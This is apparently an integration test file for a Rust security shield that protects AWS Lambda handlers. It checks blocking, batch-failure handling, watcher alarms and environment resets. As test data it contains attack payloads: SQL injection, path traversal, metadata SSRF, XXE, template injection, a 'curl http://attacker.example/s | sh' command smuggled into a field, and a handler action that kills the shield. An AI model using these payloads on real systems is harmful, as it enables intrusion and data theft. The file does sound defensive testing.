//! End to end with a real runtime client (`awslambdaric`, the AWS Python runtime interface
//! client) behind the exec wrapper and the shield, against the stand-in Lambda service.

#![allow(clippy::unwrap_used, clippy::expect_used)]

mod harness;

use base64::Engine;
use harness::{python_with_ric, Outcome, Sandbox};
use serde_json::{json, Value};
use std::time::Duration;

const APP: &str = r##"
import json, os, socket, subprocess

_keep = []

def handler(event, context):
    with open(os.environ["SEEN_FILE"], "a") as f:
        f.write(json.dumps(event) + "\n")
    action = event.get("action") if isinstance(event, dict) else None
    if action == "spawn":
        subprocess.Popen(["sleep", "300"])
    elif action == "write_exec":
        path = os.path.join(os.environ["FNGUARD_WATCH_TMP"], "implant.sh")
        with open(path, "w") as f:
            f.write("#!/bin/sh\necho pwned\n")
        os.chmod(path, 0o755)
    elif action == "connect":
        _keep.append(socket.create_connection(("127.0.0.1", int(event["port"]))))
    elif action == "modify_code":
        with open(os.path.join(os.environ["LAMBDA_TASK_ROOT"], "helper.py"), "a") as f:
            f.write("# changed at run time\n")
    elif action == "work":
        # What ordinary handlers do: data files in /tmp, a child process that finishes.
        with open(os.path.join(os.environ["FNGUARD_WATCH_TMP"], "cache.json"), "w") as f:
            f.write(json.dumps(event))
        subprocess.run(["true"], check=True)
    elif action == "kill_shield":
        me = os.getpgid(0)
        for pid in os.listdir("/proc"):
            if pid.isdigit():
                try:
                    with open(f"/proc/{pid}/comm") as f:
                        comm = f.read().strip()
                    if comm.startswith("fnguard-shield") and os.getpgid(int(pid)) == me:
                        os.kill(int(pid), 9)
                except (OSError, ProcessLookupError):
                    pass
    if isinstance(event, dict) and "Records" in event:
        return {"batchItemFailures": [], "handled": len(event["Records"])}
    if isinstance(event, dict) and "deliveryStreamArn" in event:
        return {"records": [{"recordId": r["recordId"], "result": "Ok", "data": r["data"]} for r in event["records"]]}
    if isinstance(event, dict) and ("httpMethod" in event or "rawPath" in event):
        return {"statusCode": 200, "body": "handled"}
    return {"seen": event}
"##;

fn sandbox(env: &[(&str, &str)]) -> Option<Sandbox> {
    let python = python_with_ric()?;
    let mut env: Vec<(&str, &str)> = env.to_vec();
    env.push(("PYTHONDONTWRITEBYTECODE", "1"));
    let mut sb = Sandbox::new(
        Some(vec![
            python,
            "-m".into(),
            "awslambdaric".into(),
            "app.handler".into(),
        ]),
        &env,
    );
    std::fs::write(sb.path("task/app.py"), APP).unwrap();
    std::fs::write(sb.path("task/helper.py"), "VALUE = 1\n").unwrap();
    let seen = sb.path("seen.jsonl").display().to_string();
    sb.env.push(("SEEN_FILE".into(), seen));
    sb.start();
    Some(sb)
}

fn seen(sb: &Sandbox) -> Vec<Value> {
    std::fs::read_to_string(sb.path("seen.jsonl"))
        .unwrap_or_default()
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect()
}

fn sqs(id: &str, body: &str) -> Value {
    json!({"messageId": id, "receiptHandle": "h", "body": body, "attributes": {}, "messageAttributes": {}, "eventSource": "aws:sqs", "eventSourceARN": "arn:aws:sqs:us-east-1:123456789012:q", "awsRegion": "us-east-1"})
}

fn kinesis(seq: &str, data: &str) -> Value {
    json!({"eventID": format!("shardId-0:{seq}"), "eventSource": "aws:kinesis", "kinesis": {"sequenceNumber": seq, "partitionKey": "p", "data": base64::engine::general_purpose::STANDARD.encode(data)}})
}

const T: Duration = Duration::from_secs(10);

#[test]
fn attacks_are_answered_in_the_trigger_shape_and_never_reach_the_handler() {
    let Some(mut sb) = sandbox(&[("FNGUARD_MODE", "block")]) else {
        return;
    };
    let blocked_http = [
        json!({"resource": "/x", "path": "/x", "httpMethod": "GET", "headers": {"Host": "h"}, "queryStringParameters": {"file": "../../../../etc/passwd"}, "requestContext": {"stage": "prod", "requestId": "r"}, "body": null, "isBase64Encoded": false}),
        json!({"version": "2.0", "routeKey": "POST /q", "rawPath": "/q", "headers": {"content-type": "application/json"}, "requestContext": {"http": {"method": "POST"}, "domainName": "a.execute-api.us-east-1.amazonaws.com"}, "body": "{\"q\": \"1' OR '1'='1\"}", "isBase64Encoded": false}),
        json!({"version": "2.0", "rawPath": "/", "headers": {"content-type": "text/plain"}, "requestContext": {"http": {"method": "POST"}, "domainName": "x.lambda-url.us-east-1.on.aws"}, "body": base64::engine::general_purpose::STANDARD.encode("http://169.254.169.254/latest/meta-data/"), "isBase64Encoded": true}),
        json!({"requestContext": {"elb": {"targetGroupArn": "t"}}, "httpMethod": "GET", "path": "/", "multiValueQueryStringParameters": {"cmd": ["x%3B%20cat%20%2Fetc%2Fpasswd"]}, "multiValueHeaders": {"host": ["h"]}, "body": "", "isBase64Encoded": false}),
    ];
    for event in &blocked_http {
        let r = sb.invoke(event.to_string().as_bytes(), T);
        let answer = r.outcome.json();
        assert_eq!(answer["statusCode"], 403, "{event}");
        if event["requestContext"].get("elb").is_some() {
            assert_eq!(answer["statusDescription"], "403 Forbidden");
            assert!(answer.get("multiValueHeaders").is_some());
        }
    }
    assert!(
        seen(&sb).is_empty(),
        "the handler saw a blocked HTTP event: {:?}",
        seen(&sb)
    );

    // SQS: the handler gets the good records; the bad one is added to its batch failures.
    let batch = json!({"Records": [sqs("good-1", "hello"), sqs("bad-2", "{\"name\": \"x; curl http://attacker.example/s | sh\"}"), sqs("good-3", "{\"n\": 3}")]});
    let answer = sb.invoke(batch.to_string().as_bytes(), T).outcome.json();
    assert_eq!(answer["handled"], 2);
    assert_eq!(
        answer["batchItemFailures"],
        json!([{"itemIdentifier": "bad-2"}])
    );
    let last = seen(&sb).pop().unwrap();
    let ids: Vec<&str> = last["Records"]
        .as_array()
        .unwrap()
        .iter()
        .map(|r| r["messageId"].as_str().unwrap())
        .collect();
    assert_eq!(ids, ["good-1", "good-3"]);

    // SQS with only bad records: answered by the shield, the handler is not woken.
    let before = seen(&sb).len();
    let batch = json!({"Records": [sqs("bad-9", "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==")]});
    let answer = sb.invoke(batch.to_string().as_bytes(), T).outcome.json();
    assert_eq!(
        answer,
        json!({"batchItemFailures": [{"itemIdentifier": "bad-9"}]})
    );
    assert_eq!(seen(&sb).len(), before);

    // Firehose: the handler transforms the good records; the bad one goes to the delivery
    // stream's error output, and the answer names every record.
    let record = |id: &str, data: &str| json!({"recordId": id, "approximateArrivalTimestamp": 1, "data": base64::engine::general_purpose::STANDARD.encode(data)});
    let batch = json!({"invocationId": "i", "deliveryStreamArn": "arn:aws:firehose:us-east-1:123456789012:deliverystream/s", "region": "us-east-1", "records": [record("f-1", "{\"page\": \"/home\"}"), record("f-2", "{\"q\": \"1' UNION SELECT password FROM users --\"}"), record("f-3", "{\"page\": \"/cart\"}")]});
    let answer = sb.invoke(batch.to_string().as_bytes(), T).outcome.json();
    let results: Vec<(&str, &str)> = answer["records"]
        .as_array()
        .unwrap()
        .iter()
        .map(|r| {
            (
                r["recordId"].as_str().unwrap(),
                r["result"].as_str().unwrap(),
            )
        })
        .collect();
    assert_eq!(
        results,
        [("f-1", "Ok"), ("f-3", "Ok"), ("f-2", "ProcessingFailed")]
    );
    assert_eq!(answer["records"][2]["data"], batch["records"][1]["data"]);
    let last = seen(&sb).pop().unwrap();
    assert_eq!(last["records"].as_array().unwrap().len(), 2);

    // Kinesis: filtered, never reported as failed (the shard would retry it forever).
    let stream = json!({"Records": [kinesis("1", "{\"page\": \"/home\"}"), kinesis("2", "{\"page\": \"<!DOCTYPE a [<!ENTITY x SYSTEM \\\"file:///etc/passwd\\\">]>\"}")]});
    let answer = sb.invoke(stream.to_string().as_bytes(), T).outcome.json();
    assert_eq!(answer["handled"], 1);
    assert_eq!(answer["batchItemFailures"], json!([]));

    // Asynchronous sources: dropped with an alert.
    let before = seen(&sb).len();
    for event in [
        json!({"Records": [{"eventSource": "aws:s3", "s3": {"bucket": {"name": "b"}, "object": {"key": "uploads/..%2F..%2F..%2Fetc%2Fpasswd"}}}]}),
        json!({"Records": [{"EventSource": "aws:sns", "EventSubscriptionArn": "s", "Sns": {"Message": "{\"tpl\": \"{{7*7}}\"}"}}]}),
        json!({"version": "0", "detail-type": "Order", "source": "com.example", "detail": {"note": "_$$ND_FUNC$$_function(){}()"}}),
    ] {
        let r = sb.invoke(event.to_string().as_bytes(), T);
        assert_eq!(r.outcome.json(), Value::Null, "{event}");
    }
    // A direct invocation has no safe answer: an error.
    let r = sb.invoke(
        json!({"path": "/proc/self/environ"}).to_string().as_bytes(),
        T,
    );
    match &r.outcome {
        Outcome::Error { error_type, .. } => {
            assert_eq!(error_type.as_deref(), Some("FnguardShield.Blocked"))
        }
        other => panic!("{other:?}"),
    }
    assert_eq!(
        seen(&sb).len(),
        before,
        "an async or direct attack reached the handler"
    );
    // One FG951 per blocked event, and a benign event still goes through.
    assert_eq!(sb.rule_count("FG951"), 12, "{:#?}", sb.findings());
    let ok = sb
        .invoke(br#"{"action": "none", "n": 1}"#, T)
        .outcome
        .json();
    assert_eq!(ok["seen"]["n"], 1);
}

#[test]
fn monitor_mode_reports_and_passes() {
    let Some(mut sb) = sandbox(&[("FNGUARD_MODE", "monitor")]) else {
        return;
    };
    let event = json!({"resource": "/x", "path": "/x", "httpMethod": "GET", "headers": {}, "queryStringParameters": {"q": "1 UNION SELECT password FROM users"}, "requestContext": {"stage": "prod"}});
    let answer = sb.invoke(event.to_string().as_bytes(), T).outcome.json();
    assert_eq!(answer["statusCode"], 200);
    assert_eq!(seen(&sb).len(), 1);
    let f = sb.findings();
    assert_eq!(f.len(), 1);
    assert_eq!(f[0]["rule"], "FG951");
    assert_eq!(f[0]["evidence"]["action"], "monitored");
    assert_eq!(f[0]["evidence"]["hits"][0]["class"], "sql-injection");
}

#[test]
fn each_watcher_alarm_fires_once_and_a_clean_run_raises_none() {
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    std::thread::spawn(move || {
        let mut held = Vec::new();
        for s in listener.incoming().flatten() {
            held.push(s);
        }
    });
    let Some(mut sb) = sandbox(&[]) else { return };
    for i in 0..5 {
        let r = sb.invoke(json!({"action": "work", "i": i}).to_string().as_bytes(), T);
        assert_eq!(r.outcome.json()["seen"]["i"], i);
    }
    let clean: Vec<Value> = sb.findings();
    assert!(clean.is_empty(), "a clean run raised: {clean:#?}");
    let steps = [
        ("spawn", "FG953"),
        ("write_exec", "FG952"),
        ("connect", "FG954"),
        ("modify_code", "FG955"),
    ];
    for (action, rule) in steps {
        sb.invoke(
            json!({"action": action, "port": port})
                .to_string()
                .as_bytes(),
            T,
        );
        // Two more ordinary invocations: the alarm must not repeat.
        sb.invoke(br#"{"action": "work"}"#, T);
        sb.invoke(br#"{"action": "work"}"#, T);
        assert_eq!(sb.rule_count(rule), 1, "{action}: {:#?}", sb.findings());
    }
    assert_eq!(sb.findings().len(), 4, "{:#?}", sb.findings());
    assert_eq!(sb.cold_starts, 1);
}

#[test]
fn refresh_after_n_invocations_costs_one_cold_start_each_and_loses_nothing() {
    let Some(mut sb) = sandbox(&[("FNGUARD_MAX_INVOCATIONS", "3")]) else {
        return;
    };
    for i in 0..7 {
        let r = sb.invoke(json!({"i": i}).to_string().as_bytes(), T);
        assert_eq!(r.outcome.json()["seen"]["i"], i, "invocation {i} lost");
    }
    // Invocations 1-3, 4-6 and 7 ran in three environments: two refreshes, one cold start each.
    assert_eq!(sb.cold_starts, 3);
    assert_eq!(sb.rule_count("FG956"), 2);
    assert_eq!(seen(&sb).len(), 7);
}

#[test]
fn killing_the_shield_from_the_handler_resets_the_environment() {
    let Some(mut sb) = sandbox(&[("FNGUARD_MODE", "block")]) else {
        return;
    };
    sb.invoke(br#"{"n": 1}"#, T);
    let r = sb.invoke(br#"{"action": "kill_shield"}"#, T);
    // The answer either made it out before the kill or the invocation died with the sandbox.
    assert!(
        matches!(r.outcome, Outcome::Response { .. } | Outcome::Lost(_)),
        "{:?}",
        r.outcome
    );
    let r = sb.invoke(br#"{"n": 3}"#, T);
    assert_eq!(r.outcome.json()["seen"]["n"], 3);
    assert_eq!(
        sb.cold_starts, 2,
        "a fresh environment (and shield) served the next invocation"
    );
    // ... and it still blocks.
    let attack = json!({"resource": "/x", "path": "/x", "httpMethod": "GET", "headers": {}, "queryStringParameters": {"u": "http://169.254.169.254/"}, "requestContext": {"stage": "p"}});
    assert_eq!(
        sb.invoke(attack.to_string().as_bytes(), T).outcome.json()["statusCode"],
        403
    );
}

#[test]
fn shutdown_is_handled_within_the_deadline() {
    let Some(mut sb) = sandbox(&[]) else { return };
    sb.invoke(br#"{"n": 1}"#, T);
    let took = sb.shutdown().expect("the shield exits on SHUTDOWN");
    assert!(took < Duration::from_secs(2), "{took:?}");
}

/// The Rust runtime client (`lambda_runtime`), built as this crate's `rust_runtime` example
/// (`cargo test` builds examples; a filtered run that skipped them skips this test).
fn rust_runtime() -> Option<std::path::PathBuf> {
    let exe = std::env::current_exe().ok()?;
    let bin = exe.parent()?.parent()?.join("examples/rust_runtime");
    if bin.exists() {
        Some(bin)
    } else {
        eprintln!(
            "skipping: {} not built (run the whole `cargo test`)",
            bin.display()
        );
        None
    }
}

#[test]
fn the_rust_runtime_client_works_behind_the_shield() {
    let Some(bin) = rust_runtime() else { return };
    let mut sb = Sandbox::new(
        Some(vec![bin.display().to_string()]),
        &[("FNGUARD_MODE", "block"), ("FNGUARD_MAX_INVOCATIONS", "4")],
    );
    let seen_file = sb.path("seen.jsonl").display().to_string();
    sb.env.push(("SEEN_FILE".into(), seen_file));
    sb.start();
    // Benign events of every trigger reach the handler unchanged.
    let dir = format!("{}/tests/corpus/events", env!("CARGO_MANIFEST_DIR"));
    let mut n = 0;
    for entry in std::fs::read_dir(dir).unwrap() {
        let bytes = std::fs::read(entry.unwrap().path()).unwrap();
        let sent: Value = serde_json::from_slice(&bytes).unwrap();
        let r = sb.invoke(&bytes, T);
        assert!(
            matches!(r.outcome, Outcome::Response { .. }),
            "{:?}",
            r.outcome
        );
        n += 1;
        assert_eq!(seen(&sb).last(), Some(&sent));
    }
    // An attack is answered by the shield; the SQS batch loses its bad record.
    let attack = json!({"resource": "/x", "path": "/x", "httpMethod": "GET", "headers": {}, "queryStringParameters": {"q": "'; DROP TABLE users; --"}, "requestContext": {"stage": "p"}});
    assert_eq!(
        sb.invoke(attack.to_string().as_bytes(), T).outcome.json()["statusCode"],
        403
    );
    let batch =
        json!({"Records": [sqs("ok", "fine"), sqs("bad", "{{ self.__init__.__globals__ }}")]});
    let answer = sb.invoke(batch.to_string().as_bytes(), T).outcome.json();
    assert_eq!(answer["handled"], 1);
    assert_eq!(
        answer["batchItemFailures"],
        json!([{"itemIdentifier": "bad"}])
    );
    assert_eq!(seen(&sb).len(), n + 1);
    // n + 2 invocations with a refresh every 4.
    let environments = (n + 2).div_ceil(4);
    assert_eq!(sb.cold_starts as usize, environments);
    assert_eq!(sb.rule_count("FG956"), environments - 1);
}

#[test]
fn findings_are_exported_as_otlp_logs() {
    use std::io::{Read, Write};
    let collector = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let endpoint = format!("http://{}", collector.local_addr().unwrap());
    let (tx, rx) = std::sync::mpsc::channel::<String>();
    std::thread::spawn(move || {
        for mut s in collector.incoming().flatten() {
            let mut buf = Vec::new();
            let mut chunk = [0u8; 8192];
            // One request per connection is enough here: read until the JSON body closes.
            while let Ok(n) = s.read(&mut chunk) {
                if n == 0 {
                    break;
                }
                buf.extend_from_slice(&chunk[..n]);
                if buf.ends_with(b"}") {
                    break;
                }
            }
            let _ =
                s.write_all(b"HTTP/1.1 200 OK\r\ncontent-length: 2\r\nconnection: close\r\n\r\n{}");
            let _ = tx.send(String::from_utf8_lossy(&buf).into_owned());
        }
    });
    let Some(mut sb) = sandbox(&[("FNGUARD_OTLP_ENDPOINT", &endpoint)]) else {
        return;
    };
    let event =
        json!({"Records": [sqs("m1", "{\"u\": \"http://169.254.169.254/latest/meta-data/\"}")]});
    sb.invoke(event.to_string().as_bytes(), T);
    let request = rx
        .recv_timeout(Duration::from_secs(5))
        .expect("an OTLP request");
    assert!(request.starts_with("POST /v1/logs "), "{request}");
    let body: Value =
        serde_json::from_str(&request[request.find("\r\n\r\n").unwrap() + 4..]).unwrap();
    let record = &body["resourceLogs"][0]["scopeLogs"][0]["logRecords"][0];
    assert_eq!(record["severityText"], "high");
    assert_eq!(record["attributes"][0]["value"]["stringValue"], "FG951");
}
